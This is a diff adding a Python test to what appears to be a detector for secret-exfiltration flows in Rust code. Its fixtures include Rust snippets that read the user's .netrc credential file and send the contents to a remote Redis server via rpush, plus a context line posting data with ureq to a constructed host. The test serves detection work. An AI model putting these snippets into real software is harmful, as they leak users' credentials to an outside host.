@@ -371,3 +371,16 @@ def test_a_call_written_inside_a_macros_arguments() -> None:
         'ureq::post(&format!("https://{}/u", name(&KEY))).send_bytes(&d).ok(); }\n'
     )
     assert {(flow.hidden, flow.fixed) for flow in flows(source)} == {(True, True)}
+
+
+def test_every_argument_given_to_a_network_client_leaves() -> None:
+    read = f'fn f() {{\n{HOME}let d = std::fs::read_to_string(home.join(".netrc")).unwrap();\n'
+    redis = (
+        read + 'let c = redis::Client::open("redis://203.0.113.4/").unwrap();\n'
+        "let mut con = c.get_connection().unwrap();\n"
+        'let _: () = con.rpush("k", d).unwrap();\n}\n'
+    )
+    assert [(f.sink, f.fixed) for f in flows(redis)] == [("client rpush", True)]
+    # a value that is no client: its methods keep what they are given
+    local = read + "let mut v = Vec::new(); v.extend_from_slice(d.as_bytes()); v.get(1); }\n"
+    assert flows(local) == []
